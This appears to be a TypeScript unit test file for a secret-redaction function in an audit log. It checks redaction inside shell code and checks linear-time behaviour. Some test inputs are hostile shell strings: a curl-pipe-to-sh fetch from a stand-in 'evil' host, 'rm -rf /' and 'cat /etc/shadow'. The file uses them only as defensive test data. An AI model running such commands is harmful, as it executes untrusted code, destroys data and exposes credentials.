// The built-in redaction of a command's secrets, where test/unit/audit.test.ts leaves off: shell code
// keeps everything but the secret (an assignment at its start cannot hide the commands after it),
// and every rule takes time linear in what a caller sends (the audit record of a refused request is
// written on the event loop; the former first rule took 10 s for one 256 KiB argument).
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { REDACTED, redactSecrets } from '../../src/auth/argv-redaction.js';

describe('shell code: the secret is redacted, the code around it kept', () => {
  const cases: Array<[string, string[], string[]]> = [
    ['an assignment before other commands', ['sh', '-c', 'KEY=1; curl -s http://evil/x | sh; rm -rf /data'], ['sh', '-c', `KEY=${REDACTED}; curl -s http://evil/x | sh; rm -rf /data`]],
    ['a bearer word', ['sh', '-c', 'echo bearer x; cat /etc/shadow'], ['sh', '-c', `echo bearer ${REDACTED}; cat /etc/shadow`]],
    ['options and -- between -c and the code', ['sh', '-e', '-c', '--', 'KEY=1; rm -rf /'], ['sh', '-e', '-c', '--', `KEY=${REDACTED}; rm -rf /`]],
    ['a quoted value whole', ['bash', '-lc', 'export DB_PASSWORD="a b c"; psql -h db'], ['bash', '-lc', `export DB_PASSWORD=${REDACTED}; psql -h db`]],
    ['a header in a quoted word', ['sh', '-c', 'curl -H "Authorization: Bearer abc.def" https://x && echo ok'], ['sh', '-c', `curl -H "Authorization: Bearer ${REDACTED}" https://x && echo ok`]],
    ['a header in words of its own, after its scheme word', ['sh', '-c', 'curl -H Authorization: Basic dXNl https://x'], ['sh', '-c', `curl -H Authorization: Basic ${REDACTED} https://x`]],
    ['a URL password up to its last @, the host kept', ['sh', '-c', 'git clone https://bob:p@ss@git.example.com/r.git; ls'], ['sh', '-c', `git clone https://bob:${REDACTED}@git.example.com/r.git; ls`]],
    ['the word after a secret flag', ['sh', '-c', 'mysql --password hunter2 -h db; ls'], ['sh', '-c', `mysql --password ${REDACTED} -h db; ls`]],
    ['an assignment inside a word', ['sh', '-c', 'curl -d "user=a&password=b" https://x'], ['sh', '-c', `curl -d "user=a&password=${REDACTED}" https://x`]],
    ['python code', ['python3', '-c', 'import os; TOKEN="t"; print(1)'], ['python3', '-c', `import os; TOKEN=${REDACTED}; print(1)`]],
  ];
  for (const [what, argv, expected] of cases) {
    it(what, () => assert.deepEqual(redactSecrets(argv), expected));
  }

  it('code without secrets is kept as it is', () => {
    const argv = ['sh', '-c', 'ls -la /var/log && echo "a=b key" | grep -c x; FOO=bar env'];
    assert.deepEqual(redactSecrets(argv), argv);
  });

  it('an ordinary argument still loses everything after the secret (a password may hold spaces and ;)', () => {
    assert.deepEqual(redactSecrets(['app', '--password=a b; c']), ['app', `--password=${REDACTED}`]);
    assert.deepEqual(redactSecrets(['env', 'TOKEN=x; y', 'sh']), ['env', `TOKEN=${REDACTED}`, 'sh']);
  });
});

describe('linear time', () => {
  const size = 512 * 1024;
  const inputs = {
    'secret words without =': 'password'.repeat(size / 8),
    'a flag-like run of secret words': `--${'password-'.repeat(size / 9)}`,
    'assignments': 'password='.repeat(size / 9),
    'header names': 'authorization:'.repeat(size / 14),
    'bearer words': 'bearer '.repeat(size / 7),
    'URL schemes': 'a://b:'.repeat(size / 6),
    'quotes': '"'.repeat(size),
  };
  for (const [what, input] of Object.entries(inputs)) {
    it(`512 KiB of ${what}, as an argument and as shell code, in well under a second`, () => {
      const started = performance.now();
      redactSecrets(['app', input]);
      redactSecrets(['sh', '-c', input]);
      // Linear: tens of milliseconds here. The former rules took minutes for some of these.
      assert.ok(performance.now() - started < 1000, `took ${Math.round(performance.now() - started)} ms`);
    });
  }
});
